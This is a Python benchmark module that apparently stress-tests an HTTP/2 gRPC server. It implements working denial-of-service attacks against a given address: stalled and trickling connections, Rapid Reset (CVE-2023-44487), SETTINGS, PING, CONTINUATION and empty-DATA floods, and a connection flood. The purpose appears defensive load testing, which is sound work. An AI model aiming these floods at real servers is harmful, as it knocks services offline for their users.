"""Attacks on the port, each from a process of its own: ``python -m benchmarks._attacks NAME ADDRESS [HEADER VALUE]``.

It prints "ready" when the attack is under way, goes on until its standard input ends, and then prints what it did.
A connection that the server closes is opened again. All come from 127.0.0.2, which is not the address of other clients.
"""

from __future__ import annotations

import json
import os
import select
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import count, cycle

from hpack import Encoder

from benchmarks._raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Pairs,
    RawClient,
    frame,
    grpc_message,
    headers_of,
)

SOURCE = "127.0.0.2"
STALLED, TRICKLING, FLOODING = 500, 200, 4
UPLOAD = "/vestibule.v1.MediaService/Upload"
GET = "/vestibule.v1.SessionService/GetSession"
BATCH_BYTES = 64 * 1024
GREETING = PREFACE + frame(SETTINGS, 0, 0)


@dataclass(slots=True)
class Attack:
    """One attack under way.

    Attributes:
        sent: Frames, bytes or calls sent, whatever is counted.
        reopened: Connections that the server closed.
    """

    address: str
    more: Pairs = ()
    sent: int = 0
    reopened: int = 0
    clients: list[RawClient] = field(default_factory=list)

    def connect(self, *, greet: bool = False) -> RawClient:
        """A connection, without a preface unless it is asked for."""
        return RawClient(self.address, greet=greet, source=SOURCE)

    def headers(self, path: str) -> bytes:
        """The header block of a call. It refers to no earlier one, so it can be sent again."""
        encoder = Encoder()
        encoder.header_table_size = 0
        return encoder.encode(headers_of(path, self.address, self.more))


def stall(attack: Attack) -> Callable[[], None]:
    """Connections that say nothing, only greet, only open a call, or stop within a frame."""
    half = frame(HEADERS, END_HEADERS, 1, bytes(100))[:20]
    open_call = frame(HEADERS, END_HEADERS, 1, attack.headers(GET))
    upload = frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD)) + frame(DATA, 0, 1, grpc_message(b"", claimed=9000))
    openings = cycle((b"", GREETING, GREETING + open_call, GREETING + half, GREETING + upload[:-3]))
    return _held(attack, STALLED, openings, drip=b"", every_s=1.0)


def trickle(attack: Attack) -> Callable[[], None]:
    """A byte a second: into the messages of an upload, and into the header of a frame."""
    upload = GREETING + frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
    return _held(attack, TRICKLING, cycle((upload, GREETING)), drip=b"\0", every_s=1.0)


def _held(attack: Attack, number: int, openings: Iterator[bytes], drip: bytes, every_s: float) -> Callable[[], None]:
    attack.clients = [_opened(attack, next(openings)) for _ in range(number)]
    attack.sent = number

    def step() -> None:
        time.sleep(every_s)
        for place, client in enumerate(attack.clients):
            client.sock.settimeout(0)
            try:
                closed = any(select.select([client.sock], [], [], 0)) and not client.sock.recv(65536)
                if not closed and drip:
                    client.sock.sendall(drip)
            except OSError:
                closed = True
            if closed:
                client.sock.close()
                attack.clients[place] = _opened(attack, next(openings))
                attack.reopened += 1

    return step


def _opened(attack: Attack, opening: bytes) -> RawClient:
    client = attack.connect()
    if opening:
        client.sock.sendall(opening)
    return client


def rapid_reset(attack: Attack) -> Callable[[], None]:
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    block = attack.headers(GET)

    def pieces() -> Iterator[bytes]:
        for stream in count(1, 2):
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")

    return _flood(attack, pieces)


def settings_flood(attack: Attack) -> Callable[[], None]:
    """SETTINGS frames, each of which asks for an answer (CVE-2019-9515)."""
    return _flood(attack, lambda: cycle((frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"),)))


def ping_flood(attack: Attack) -> Callable[[], None]:
    """PING frames, each of which asks for an answer (CVE-2019-9512)."""
    return _flood(attack, lambda: cycle((frame(PING, 0, 0, bytes(8)),)))


def continuation_flood(attack: Attack) -> Callable[[], None]:
    """A header block that never ends (CVE-2024-27316)."""
    field_line = Encoder().encode([("x-flood", os.urandom(400).hex())])

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, attack.headers(GET))
        yield from cycle((frame(CONTINUATION, 0, 1, field_line),))

    return _flood(attack, pieces)


def empty_data_flood(attack: Attack) -> Callable[[], None]:
    """Empty DATA frames in one call (CVE-2019-9518)."""

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, attack.headers(UPLOAD))
        yield from cycle((frame(DATA, 0, 1),))

    return _flood(attack, pieces)


def connect_flood(attack: Attack) -> Callable[[], None]:
    """Connections that are opened and closed as fast as possible."""

    def step() -> None:
        with attack.connect() as client:
            client.sock.sendall(GREETING)
        attack.sent += 1

    return step


def _flood(attack: Attack, pieces: Callable[[], Iterator[bytes]]) -> Callable[[], None]:
    """Write on some connections as fast as the server reads."""

    def opened() -> tuple[RawClient, Iterator[bytes], list[bytes]]:
        client = _opened(attack, GREETING)
        client.sock.setblocking(False)
        return client, pieces(), []

    lines = [opened() for _ in range(FLOODING)]

    def step() -> None:
        socks = [client.sock for client, _, _ in lines]
        readable, writable, _ = select.select(socks, socks, [], 0.1)
        for place, (client, source, rest) in enumerate(lines):
            try:
                if client.sock in readable and not client.sock.recv(65536):
                    raise ConnectionResetError
                if client.sock in writable:
                    attack.sent += _write(client, source, rest)
            except BlockingIOError:
                continue
            except OSError:
                client.sock.close()
                attack.reopened += 1
                lines[place] = opened()

    return step


def _write(client: RawClient, source: Iterator[bytes], rest: list[bytes]) -> int:
    pieces = 0
    data = rest.pop() if rest else b""
    while len(data) < BATCH_BYTES:
        data += next(source)
        pieces += 1
    taken = client.sock.send(data)
    if taken < len(data):
        rest.append(data[taken:])
    return pieces


ATTACKS: dict[str, Callable[[Attack], Callable[[], None]]] = {
    "stall": stall,
    "trickle": trickle,
    "rapid reset": rapid_reset,
    "settings flood": settings_flood,
    "ping flood": ping_flood,
    "continuation flood": continuation_flood,
    "empty data flood": empty_data_flood,
    "connect flood": connect_flood,
}


def main(name: str, address: str, *header: str) -> None:
    os.nice(19)  # in earnest it has a machine of its own; here it must not take the processor from the server
    attack = Attack(address, [(header[0], header[1])] if header else ())
    step = ATTACKS[name](attack)
    print("ready", flush=True)
    began = time.monotonic()
    while not any(select.select([sys.stdin], [], [], 0)):
        step()
    seconds = time.monotonic() - began
    print(json.dumps({"sent": attack.sent, "reopened": attack.reopened, "seconds": round(seconds, 1)}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
